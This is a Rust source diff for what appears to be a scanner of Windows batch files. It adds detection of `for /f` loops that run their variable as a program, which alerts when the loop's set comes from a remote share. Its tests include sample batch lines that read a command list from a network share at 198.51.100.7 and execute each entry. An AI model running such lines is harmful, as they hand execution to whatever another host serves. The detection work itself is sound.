@@ -788,6 +788,58 @@ fn tool_argument(tool: &[u8], after: &[u8], chance_bytes: bool, piped: bool) -> 
         || (tool == b"explorer" && names_remote_host(token))
 }
 
+/// The finding for a command whose program is a `for` loop's variable (`for /f %%a in
+/// (\\host\s\list.txt) do %%a`): what it runs is what the loop's set yields, known
+/// only when the file runs. Read from a share (a set naming a remote host) it runs
+/// commands another host serves: an alert; from anything else a `not-inspected` warning
+/// (review of session 41, item 1: both were clean). `before` is what cmd.exe read before
+/// the program (`for … do `).
+fn loop_variable_program(
+    bytes: &[u8],
+    offset: usize,
+    before: &[u8],
+    start: &[u8],
+) -> Option<Command> {
+    let keyword_for = before
+        .iter()
+        .position(|b| !is_token_delimiter(*b) && !matches!(b, b'@' | b'(' | b'\r'))
+        .and_then(|at| before.get(at..at + 4))
+        .is_some_and(|word| word[..3].eq_ignore_ascii_case(b"for") && is_token_delimiter(word[3]));
+    let name = start
+        .strip_prefix(b"%%")
+        .or_else(|| start.strip_prefix(b"%"))?;
+    let variable = name.first().is_some_and(u8::is_ascii_alphabetic)
+        && name.get(1).is_none_or(|&b| ends_word(b));
+    if !keyword_for || !variable {
+        return None;
+    }
+    let remote = before
+        .split(|&b| is_token_delimiter(b) || matches!(b, b'(' | b')' | b'"' | b'\'' | b'`'))
+        .any(names_remote_host);
+    let excerpt = line_excerpt(bytes, offset);
+    Some(if remote {
+        Command {
+            offset,
+            interpreter: "batch",
+            severity: Severity::Alert,
+            kind: FindingKind::ActiveContent,
+            detail: format!(
+                "a Windows command line (\"{excerpt}\") whose program is a `for` loop's variable over what a share serves: cmd.exe runs the commands another host hands it"
+            ),
+        }
+    } else {
+        Command {
+            offset,
+            interpreter: "batch",
+            severity: Severity::Warning,
+            kind: FindingKind::NotInspected,
+            detail: format!(
+                "a Windows command line (\"{excerpt}\") whose program is a `for` loop's variable: what cmd.exe runs is what the loop's set yields when the file runs, not inspected"
+            ),
+        }
+    })
+}
+
 /// Whether `start` (a command as cmd.exe reads it, from its program) is cmd.exe given a
 /// switch that runs the rest of its line (`cmd /c`, `cmd.exe /k`, `"cmd" /c`).
 fn cmd_line_runs_a_command(start: &[u8]) -> bool {
@@ -5675,6 +5727,9 @@ fn command_at(
         expansion = expand_arguments(bytes, offset, line, variables);
         expansion.as_ref().map(|found| found.line.clone())
     };
+    if let Some(found) = loop_variable_program(bytes, offset, &line.text[..from + skip], start) {
+        return Some(found);
+    }
     let start = match expand_program_name(bytes, offset, start, variables) {
         None => match with_arguments(start, variables) {
             Some(line) => {
@@ -10348,6 +10403,22 @@ mod lolbin_tests {
             &[false],
         );
         assert_clean(&["evil.reg", "evil.ps1"]);
+    }
+
+    /// Review of session 41 (issue 10, item 1): a `for /f` over a share whose variable
+    /// is the program runs what the share serves; over a local set it is not known here.
+    #[test]
+    fn a_program_from_a_for_loops_variable_is_said() {
+        assert_alerts(
+            &[
+                "for /f %%a in (\\\\198.51.100.7\\s\\list.txt) do %%a",
+                "for /f \"delims=\" %%a in ('type \\\\198.51.100.7\\s\\x') do %%a",
+            ],
+            &[false, true],
+        );
+        let found = found(b"for /f %%a in (list.txt) do %%a", false).expect("a warning");
+        assert_eq!(found.kind, FindingKind::NotInspected, "{}", found.detail);
+        assert_clean(&["For 10% of cases, do more"]);
     }
 
     /// Review rv41-screen (F1): report lines that `start` or `at` read as handing a plain
